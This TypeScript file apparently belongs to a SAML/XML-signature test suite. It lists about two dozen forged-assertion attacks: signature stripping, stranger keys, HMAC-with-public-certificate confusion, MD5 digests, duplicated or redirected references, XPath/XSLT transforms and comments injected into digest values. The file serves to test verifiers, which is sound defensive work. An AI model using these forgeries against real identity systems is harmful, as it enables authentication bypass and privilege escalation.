import { createPublicKey } from 'node:crypto';
import { certificateText } from '../../idp/index.js';
import { type Attack } from '../attack.js';
import { type AttackKit } from '../attack-kit.js';

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const unsigned = 'Anybody can write an answer that nobody signed.';
const foreign = 'Anybody has a key; only the one the application pinned counts.';
const loose = 'What is signed is not what is read.';

const XPATH = `<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(self::*)</ds:XPath></ds:Transform>`;
const XSLT = `<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"></ds:Transform>`;

const withTransform = (transform: string) => (kit: AttackKit) =>
  kit.resigned(info => info.replace('<ds:Transforms>', `<ds:Transforms>${transform}`));

const withKeyInfo = (xml: string, change: (keyInfo: string) => string): string =>
  xml.replace(/<KeyInfo [\s\S]*?<\/KeyInfo>/, keyInfo => change(keyInfo));

const certificateElement = (text: string): string => `<ds:X509Certificate>${text}</ds:X509Certificate>`;

export const SIGNATURE: readonly Attack[] = [
  { name: 'signature/none', about: unsigned, forge: kit => kit.asEvil(kit.unsigned().xml) },
  {
    name: 'signature/empty',
    about: unsigned,
    forge: kit => kit.honest().replace(/(<ds:SignatureValue>)[^<]*/, '$1'),
  },
  {
    name: 'signature/changed-afterwards',
    about: 'A signature covers what it was made over, and nothing else.',
    forge: kit => kit.asEvil(kit.honest()),
  },
  {
    name: 'signature/attribute-changed-afterwards',
    about: 'A signature covers what it was made over, and nothing else.',
    forge: kit => kit.honest().replace(/(Name="group_role"><AttributeValue>)[^<]*/, '$1Super Admin!'),
  },
  { name: 'signature/stranger', about: foreign, forge: kit => kit.signed(xml => xml, {}, kit.stranger) },
  {
    name: 'signature/stranger-behind-our-certificate',
    about: foreign,
    forge: kit =>
      kit
        .signed(xml => xml, {}, kit.stranger)
        .replace(certificateText(kit.stranger), certificateText(kit.identity)),
  },
  {
    name: 'signature/stranger-with-both-certificates',
    about: foreign,
    forge: kit =>
      withKeyInfo(
        kit.signed(xml => xml, {}, kit.stranger),
        keyInfo =>
          keyInfo.replace(
            '<ds:X509Data>',
            `<ds:X509Data>${certificateElement(certificateText(kit.identity))}`,
          ),
      ),
  },
  {
    name: 'signature/stranger-by-key-value',
    about: foreign,
    forge: kit => {
      const { n = '', e = '' } = createPublicKey(kit.stranger.certificate).export({ format: 'jwk' });
      const base64 = (text: string): string => Buffer.from(text, 'base64url').toString('base64');
      const value = `<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>${base64(n)}</ds:Modulus><ds:Exponent>${base64(e)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>`;
      return withKeyInfo(
        kit.signed(xml => xml, {}, kit.stranger),
        () => `<KeyInfo xmlns="${DSIG}" xmlns:ds="${DSIG}">${value}</KeyInfo>`,
      );
    },
  },
  {
    name: 'signature/stranger-without-key-info',
    about: foreign,
    forge: kit =>
      withKeyInfo(
        kit.signed(xml => xml, {}, kit.stranger),
        () => '',
      ),
  },
  {
    name: 'signature/hmac-with-certificate',
    about: 'The public certificate is taken for a shared secret.',
    forge: kit =>
      kit.resigned(
        info => info.replace(/(<ds:SignatureMethod Algorithm=")[^"]*/, `$1${DSIG}hmac-sha1`),
        kit.identity.certificate,
      ),
  },
  {
    name: 'signature/hmac-without-key',
    about: 'An empty shared secret is one that everybody knows.',
    forge: kit =>
      kit.resigned(info => info.replace(/(<ds:SignatureMethod Algorithm=")[^"]*/, `$1${DSIG}hmac-sha1`), ''),
  },
  {
    name: 'signature/md5-digest',
    about: 'A broken digest lets two documents share a signature.',
    forge: kit =>
      kit.resigned(info =>
        info.replace(/(<ds:DigestMethod Algorithm=")[^"]*/, '$1http://www.w3.org/2001/04/xmldsig-more#md5'),
      ),
  },
  {
    name: 'signature/two-references',
    about: loose,
    forge: kit =>
      kit.resigned(info =>
        info.replace(/<ds:Reference [\s\S]*<\/ds:Reference>/, reference => reference + reference),
      ),
  },
  {
    name: 'signature/two-signed-infos',
    about: loose,
    forge: kit => kit.honest().replace(/<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/, info => info + info),
  },
  {
    name: 'signature/no-reference',
    about: loose,
    forge: kit => kit.asEvil(kit.resigned(info => info.replace(/<ds:Reference [\s\S]*<\/ds:Reference>/, ''))),
  },
  {
    name: 'signature/reference-to-nothing',
    about: loose,
    forge: kit => kit.asEvil(kit.resigned(info => info.replace(/URI="[^"]*"/, 'URI="#_nothing"'))),
  },
  {
    name: 'signature/reference-to-the-whole',
    about: loose,
    forge: kit => kit.resigned(info => info.replace(/URI="[^"]*"/, 'URI=""')),
  },
  {
    name: 'signature/reference-elsewhere',
    about: 'A verifier fetches what an attacker points it at.',
    forge: kit => kit.resigned(info => info.replace(/URI="[^"]*"/, 'URI="http://127.0.0.1:9/never"')),
  },
  { name: 'signature/xpath-transform', about: loose, forge: withTransform(XPATH) },
  { name: 'signature/xslt-transform', about: loose, forge: withTransform(XSLT) },
  {
    name: 'signature/no-transforms',
    about: loose,
    forge: kit => kit.resigned(info => info.replace(/<ds:Transforms>[\s\S]*<\/ds:Transforms>/, '')),
  },
  {
    name: 'signature/void-canonicalization',
    about: 'Canonicalization that yields nothing makes every signature right.',
    forge: kit =>
      kit.resigned(info =>
        info.replace(/(<ds:CanonicalizationMethod Algorithm=")[^"]*/, '$1urn:example:nothing'),
      ),
  },
  {
    name: 'signature/canonicalization-with-comments',
    about: loose,
    forge: kit =>
      kit.resigned(info =>
        info.replace(/(<ds:CanonicalizationMethod Algorithm="[^"#]*#)[^"]*/, '$1WithComments'),
      ),
  },
  {
    name: 'signature/comment-in-digest',
    about: 'Two readers of one digest see two values.',
    forge: kit => kit.honest().replace(/<ds:DigestValue>/, '<ds:DigestValue><!--AAAA-->'),
  },
];
